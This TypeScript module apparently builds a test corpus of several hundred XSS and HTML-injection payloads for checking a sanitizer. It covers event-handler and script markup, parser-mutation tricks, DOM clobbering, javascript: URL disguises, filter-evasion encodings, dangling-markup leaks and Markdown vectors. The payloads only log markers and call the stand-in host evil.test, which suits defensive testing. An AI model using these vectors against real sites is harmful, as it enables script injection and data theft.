// Attempts to run a script, to load something from elsewhere, or to take a page apart: made of vectors, ways to write them, and ways out
// of where they stand. Each says its own number when it runs, and names a host of its own when it asks for something.

export interface Payload {
  readonly number: number
  readonly text: string
}

/** What a payload says on the console when it runs: `/ran-7-/`. It needs no quotes. */
export const ranMark = /^\/ran-(\d+)-\/$/

/** The host that a payload asks: nobody has that domain, and the browser is told where it is. */
export const foreignDomain = 'evil.test'
export const foreignHost = /p(\d+)\.evil\.test/

type Make = (number: number) => string

const run = (number: number) => `console.log(/ran-${number}-/)`
const host = (number: number) => `p${number}.${foreignDomain}`

/** Markup that runs a script by itself, or when somebody passes over it or presses it. */
const scripts: readonly Make[] = [
  (n) => `<script>${run(n)}</script>`,
  (n) => `<script src=//${host(n)}/s.js></script>`,
  (n) => `<script type=module>${run(n)}</script>`,
  (n) => `<script src="data:text/javascript,${run(n)}"></script>`,
  (n) => `<img src=x onerror=${run(n)}>`,
  (n) => `<img src=x:x onerror="${run(n)}" alt=''>`,
  (n) => `<image src=x onerror=${run(n)}>`,
  (n) => `<svg onload=${run(n)}>`,
  (n) => `<svg><script>${run(n)}</script></svg>`,
  (n) => `<svg><script href="data:text/javascript,${run(n)}"/></svg>`,
  (n) => `<svg><script xlink:href="//${host(n)}/s.js"></script></svg>`,
  (n) => `<svg><animate onbegin=${run(n)} attributeName=x dur=1s>`,
  (n) => `<svg><set onbegin=${run(n)} attributeName=x to=1>`,
  (n) => `<svg><a href="javascript:${run(n)}"><text y=20>x</text></a></svg>`,
  (n) => `<svg><a><animate attributeName=href values="javascript:${run(n)}"/><text y=20>x</text></a></svg>`,
  (n) => `<svg><foreignObject><img src=x onerror=${run(n)}></foreignObject></svg>`,
  (n) => `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=${run(n)} />#x"/></svg>`,
  (n) => `<math href="javascript:${run(n)}">x</math>`,
  (n) => `<math><maction actiontype="statusline#x" xlink:href="javascript:${run(n)}">x</maction></math>`,
  (n) => `<iframe src="javascript:${run(n)}"></iframe>`,
  (n) => `<iframe srcdoc="<script>${run(n)}</script>"></iframe>`,
  (n) => `<iframe srcdoc="&lt;img src=x onerror=${run(n)}&gt;"></iframe>`,
  (n) => `<iframe src="data:text/html,<script>${run(n)}</script>"></iframe>`,
  (n) => `<iframe onload=${run(n)}></iframe>`,
  (n) => `<object data="data:text/html,<script>${run(n)}</script>"></object>`,
  (n) => `<object onerror=${run(n)} data=x></object>`,
  (n) => `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run(n)}'/>">`,
  (n) => `<embed src="javascript:${run(n)}">`,
  (n) => `<video onerror=${run(n)}><source src=x></video>`,
  (n) => `<video src=x onerror=${run(n)}></video>`,
  (n) => `<audio src=x onerror=${run(n)}></audio>`,
  (n) => `<details open ontoggle=${run(n)}><summary>x</summary></details>`,
  (n) => `<input autofocus onfocus=${run(n)}>`,
  (n) => `<a tabindex=0 autofocus onfocus=${run(n)}>x</a>`,
  (n) => `<body onload=${run(n)}>`,
  (n) => `<body onpageshow=${run(n)}>`,
  (n) => `<frameset onload=${run(n)}>`,
  (n) => `<marquee onstart=${run(n)}>x</marquee>`,
  (n) => `<b onmouseover=${run(n)}>x</b>`,
  (n) => `<b onclick="${run(n)}">x</b>`,
  (n) => `<p style="animation:a 1s" onanimationstart=${run(n)}>x</p>`,
  (n) => `<div contenteditable oninput=${run(n)} onfocusin=${run(n)} tabindex=0>x</div>`,
  (n) => `<form action="javascript:${run(n)}"><button>x</button></form>`,
  (n) => `<button formaction="javascript:${run(n)}" form=f>x</button><form id=f></form>`,
  (n) => `<isindex action="javascript:${run(n)}" type=image>`,
  (n) => `<meta http-equiv=refresh content="0;url=javascript:${run(n)}">`,
  (n) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${run(n)}</script>">`,
  (n) => `<base href="javascript:${run(n)}//"><a href="x">x</a>`,
  (n) => `<link rel=import href="data:text/html,<script>${run(n)}</script>">`,
  (n) => `<link rel=stylesheet href=x onerror=${run(n)}>`,
  (n) => `<style onload=${run(n)}></style>`,
  (n) => `<style>@import 'javascript:${run(n)}'; b{behavior:url(javascript:${run(n)})}</style>`,
  (n) =>
    `<dialog open oncancel=${run(n)}><button popovertarget=q>x</button></dialog><div popover id=q onbeforetoggle=${run(n)}>x</div>`,
]

/** Markup that a parser mends, and that means another thing afterwards. */
const mended: readonly Make[] = [
  (n) => `<noscript><p title="</noscript><img src=x onerror=${run(n)}>">`,
  (n) => `<template><script>${run(n)}</script></template>`,
  (n) => `<div><template shadowrootmode=open><img src=x onerror=${run(n)}></template></div>`,
  (n) => `<math><mtext><table><mglyph><style><img src=x onerror=${run(n)}>`,
  (n) => `<svg></p><style><a title="</style><img src=x onerror=${run(n)}>">`,
  (n) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run(n)}>`,
  (n) => `<table><td><svg><desc><td></desc><img src=x onerror=${run(n)}>`,
  (n) => `<select><option><style></option></select><img src=x onerror=${run(n)}></style>`,
  (n) => `<xmp><p title="</xmp><img src=x onerror=${run(n)}>">`,
  (n) => `<plaintext><img src=x onerror=${run(n)}>`,
  (n) => `<title><a title="</title><img src=x onerror=${run(n)}>">`,
  (n) => `<textarea><a title="</textarea><img src=x onerror=${run(n)}>">`,
  (n) => `<noembed><a title="</noembed><img src=x onerror=${run(n)}>">`,
  (n) => `<!--><img src=x onerror=${run(n)}>-->`,
  (n) => `<!---><img src=x onerror=${run(n)}>`,
  (n) => `<!-- --!><img src=x onerror=${run(n)}> -->`,
  (n) => `<![CDATA[<img src=x onerror=${run(n)}>]]>`,
  (n) => `<svg><![CDATA[><img src=x onerror=${run(n)}>]]>`,
  (n) => `<?xml version="1.0"?><?xml-stylesheet href="javascript:${run(n)}"?>`,
  (n) => `<!DOCTYPE x [<!ENTITY e "<img src=x onerror=${run(n)}>">]>&e;`,
  (n) => `<a href="<img src=x onerror=${run(n)}>`,
  (n) => `<b/onclick=${run(n)}/x=">">x</b>`,
]

/** Markup that asks somebody else, or leaves something open that would. */
const requests: readonly Make[] = [
  (n) => `<img src="//${host(n)}/a.png">`,
  (n) => `<img srcset="https://${host(n)}/a.png 1x, //${host(n)}/b.png 2x" alt=x>`,
  (n) => `<picture><source srcset="//${host(n)}/a.png"><img alt=x></picture>`,
  (n) => `<video poster="//${host(n)}/a.png"></video>`,
  (n) => `<video autoplay src="//${host(n)}/a.mp4"><track default src="//${host(n)}/a.vtt"></video>`,
  (n) => `<audio autoplay src="//${host(n)}/a.mp3"></audio>`,
  (n) => `<iframe src="//${host(n)}/"></iframe>`,
  (n) => `<object data="//${host(n)}/a"></object>`,
  (n) => `<embed src="//${host(n)}/a">`,
  (n) => `<link rel=stylesheet href="//${host(n)}/a.css">`,
  (n) => `<link rel=icon href="//${host(n)}/a.ico"><link rel=manifest href="//${host(n)}/m">`,
  (n) => `<link rel=prefetch href="//${host(n)}/a"><link rel=preload as=image href="//${host(n)}/b">`,
  (n) => `<link rel=modulepreload href="//${host(n)}/a.js"><link rel=prerender href="//${host(n)}/b">`,
  (n) => `<link rel=dns-prefetch href="//${host(n)}"><link rel=preconnect href="https://${host(n)}">`,
  (n) => `<style>@import "//${host(n)}/a.css";</style>`,
  (n) => `<style>*{background:url(//${host(n)}/a.png);list-style:url(//${host(n)}/b)}</style>`,
  (n) => `<style>@font-face{font-family:z;src:url(//${host(n)}/f.woff)}*{font-family:z}</style>`,
  (n) => `<p style="background:url(//${host(n)}/a.png)">x</p>`,
  (n) => `<table background="//${host(n)}/a.png"><td background="//${host(n)}/b.png">x</table>`,
  (n) => `<body background="//${host(n)}/a.png">`,
  (n) => `<meta http-equiv=refresh content="0;url=//${host(n)}/">`,
  (n) => `<meta http-equiv=refresh content="0; URL='https://${host(n)}/'">`,
  (n) => `<base href="//${host(n)}/"><img src=a.png><script src=b.js></script>`,
  (n) =>
    `<form action="//${host(n)}/" id=f><input name=a autofocus></form><input form=f type=image src="//${host(n)}/i.png">`,
  (n) => `<a href="#" ping="//${host(n)}/">x</a>`,
  (n) => `<svg><image href="//${host(n)}/a.png"/><use href="//${host(n)}/b.svg#c"/></svg>`,
  (n) =>
    `<svg><filter id=i><feImage href="//${host(n)}/a.png"/></filter><rect width=9 height=9 filter="url(#i)"/></svg>`,
  (n) => `<svg><style>@import '//${host(n)}/a.css'</style></svg>`,
  (n) => `<input type=image src="//${host(n)}/a.png">`,
  (n) => `<script type=speculationrules>{"prefetch":[{"urls":["https://${host(n)}/"]}]}</script>`,
  (n) => `<img src='//${host(n)}/?`,
  (n) => `<a href="//${host(n)}/?`,
  (n) => `<style>@import '//${host(n)}/?`,
  (n) => `<meta http-equiv=refresh content='0; url=//${host(n)}/?`,
  (n) => `<textarea form=z name=q><form id=z action="//${host(n)}/">`,
  (n) => `<portal src="//${host(n)}/"></portal><fencedframe src="//${host(n)}/"></fencedframe>`,
  (n) => `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri //${host(n)}/">`,
]

/** Names that the script of a page could stumble over, and elements that it looks for. */
const clobbers: readonly Make[] = [
  (n) => `<img name=body><img id=head><form name=documentElement><input name=baseURI></form><i id=x>${n}</i>`,
  (n) => `<form id=location href="//${host(n)}/"></form><a id=location name=href href="javascript:${run(n)}">x</a>`,
  (n) => `<a id=fetch></a><a id=Uint8Array></a><a id=crypto></a><form id=crypto><input name=subtle></form>${n}`,
  (n) => `<div data-ovn-check data-cid=bafkqaaa data-car="//${host(n)}/a.car"></div>`,
  (n) => `<div data-ovn-article><img src=x onerror=${run(n)}></div>`,
  (n) => `<meta name=referrer content=unsafe-url><img src="//${host(n)}/">`,
  (n) => `<form><input name=querySelectorAll><input name=attributes><input name=parentNode></form>${n}`,
]

/** Addresses that run something, if they are taken for one. */
const addresses: readonly Make[] = [
  (n) => `javascript:${run(n)}`,
  (n) => `javascript://%0a${run(n)}`,
  (n) => `javascript:/*//*/${run(n)}`,
  (n) => `data:text/html,<script>${run(n)}</script>`,
  (n) => `data:text/html;base64,${Buffer.from(`<script>${run(n)}</script>`).toString('base64')}`,
  (n) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run(n)}"/>`,
  (n) => `vbscript:msgbox(${n})`,
  (n) => `view-source:javascript:${run(n)}`,
  (n) => `blob:null/${n}`,
  (n) => `filesystem:http://${host(n)}/x`,
  (n) => `feed:javascript:${run(n)}`,
  (n) => `//${host(n)}/\\..\\`,
]

/** Ways to write an address that a browser reads as the same. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) =>
    text.replace(/^[a-z]+/, (name) =>
      name.replace(/./g, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter)),
    ),
  (text) => ` \t${text}`,
  (text) => `\u0001\u001f${text}`,
  (text) => text.replace(/^(.{3})/, '$1\t'),
  (text) => text.replace(/^(.{3})/, '$1\n'),
  (text) => text.replace(/^(.{3})/, '$1&Tab;&NewLine;'),
  (text) => text.replace(/^(.)/, (letter) => `&#x${letter.charCodeAt(0).toString(16)};`),
  (text) => text.replace(/^(.)/, (letter) => `&#0000${letter.charCodeAt(0)}`),
  (text) => text.replace(':', '&colon;'),
  (text) => text.replace(':', '%3A'),
  (text) => text.replace(/^(.{2})/, '$1\u0000'),
  (text) => text.replace(/^(.{2})/, '$1\u00ad'),
  (text) => `https:${text}`,
  (text) => `\ufeff${text}\u2028`,
]

/** Ways out of an attribute, an element, a comment, a string. */
const exits = [
  '"', "'", '`', '">', "'>", '`>', '"/>', '-->', '--!>', ']]>', '</title>', '</textarea>', '</script>', '</style>', '</noscript>', '</template>', '</svg>', '</math>',
  '</article></main>', '</p></div>', '</a>', '</code></pre>', '*/', '\u2028', '\u2029', '\u0000', '\\"', "\\'", '&quot;>', '&#34;>', '&#x22>', '&lt;/script&gt;', '\r\n\r\n', '%22%3E', '\ud800', '\ufdd0"',
] as const // biome-ignore format: a table

const after: readonly Make[] = [
  (n) => `<img src=x onerror=${run(n)}>`,
  (n) => ` autofocus tabindex=0 onfocus=${run(n)} x=`,
  (n) => `<script>${run(n)}</script>`,
  (n) => ` style=background:url(//${host(n)}/a) srcset=//${host(n)}/b onmouseover=${run(n)} `,
]

/** Other ways to write markup: what a filter of texts would miss, and a parser would not, or the other way round. */
const spellings: readonly ((text: string) => string)[] = [
  (text) =>
    text
      .toUpperCase()
      .replace(/CONSOLE\.LOG\(\/RAN-/g, 'console.log(/ran-')
      .replace(/EVIL\.TEST/g, 'evil.test'),
  (text) => text.replace(/<([a-z]+) /g, '<$1/'),
  (text) => text.replace(/ ([a-z]+=)/g, '\n\t$1'),
  (text) => text.replace(/<([a-z])/g, '<\u0000$1'),
  (text) => text.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  (text) => text.replace(/</g, '&amp;lt;'),
  (text) => text.replace(/</g, '\uff1c').replace(/>/g, '\uff1e'),
  (text) => text.replace(/</g, '+ADw-').replace(/>/g, '+AD4-'),
  (text) => text.replace(/</g, '<<'),
  (text) => text.replace(/</g, '%3C').replace(/>/g, '%3E'),
  (text) => text.replace(/<([a-z]+)/g, '<$1\u000c'),
  (text) => text.replace(/console/g, '&#99;onsole'),
  (text) => text.replace(/console/g, '\\u0063onsole'),
  (text) => text.replace(/</g, '<\u200b'),
  (text) => `{{constructor.constructor('${text.replaceAll("'", '"')}')()}}\${${text}}`,
]

/** Ways to write what is dangerous in Markdown alone. */
const markdown: readonly Make[] = [
  (n) => `[x](javascript:${run(n)})`,
  (n) => `[x](<javascript:${run(n)}> "t\\" onmouseover=${run(n)}")`,
  (n) => `![x" onerror="${run(n)}](https://${host(n)}/a.png "y\\" onerror=${run(n)}")`,
  (n) => `![](//${host(n)}/a.png)`,
  (n) => `[![x](https://${host(n)}/a.png)](javascript:${run(n)})`,
  (n) => `<javascript:${run(n)}>`,
  (n) => `<https://${host(n)}/"onclick="${run(n)}>`,
  (n) => `[r${n}]: <javascript:${run(n)}> 'x'\n\n[r${n}]`,
  (n) => `\`\`\`"><img src=x onerror=${run(n)}>\n</code></pre><img src=x onerror=${run(n)}>\n\`\`\``,
  (n) => `# <img src=x onerror=${run(n)}> {#x onclick=${run(n)}}`,
  (n) => `| <img src=x onerror=${run(n)}> |\n|:-" onclick="${run(n)}:|\n| </td><svg onload=${run(n)}> |`,
  (n) => `x[^"><img>]\n\n[^"><img>]: <img src=x onerror=${run(n)}>`,
  (n) => `^[<img src=x onerror=${run(n)}>] <sub onclick=${run(n)}>x</sub> <kbd style=x>y</kbd>`,
  (n) => `<!-- x\n\n--><img src=x onerror=${run(n)}><!--`,
  (n) => `- [ ] <img src=x onerror=${run(n)}>\n- [x" onclick="${run(n)}] y`,
  (n) => `<sub><sup></sub><img src=x onerror=${run(n)}></sup>`,
  (n) => `https://${host(n)}/"><img src=x onerror=${run(n)}>`,
  (n) => `<b\u2028onclick=${run(n)}>x</b>`,
]

function combine(makes: readonly Make[], ways: readonly ((text: string) => string)[]): Make[] {
  return makes.flatMap((make) =>
    ways.map(
      (way): Make =>
        (n) =>
          way(make(n)),
    ),
  )
}

const makes: readonly Make[] = [
  ...scripts,
  ...mended,
  ...requests,
  ...clobbers,
  ...markdown,
  ...combine(addresses, disguises),
  ...exits.flatMap((exit) =>
    after.map(
      (make): Make =>
        (n) =>
          exit + make(n),
    ),
  ),
  ...combine(
    [...scripts.filter((_, index) => index % 6 === 0), ...requests.filter((_, index) => index % 9 === 0)],
    spellings,
  ),
]

/** All payloads, each once, in an order that does not change. */
export const payloads: readonly Payload[] = [...new Map(makes.map((make) => [make(0), make])).values()].map(
  (make, number) => ({
    number,
    text: make(number),
  }),
)
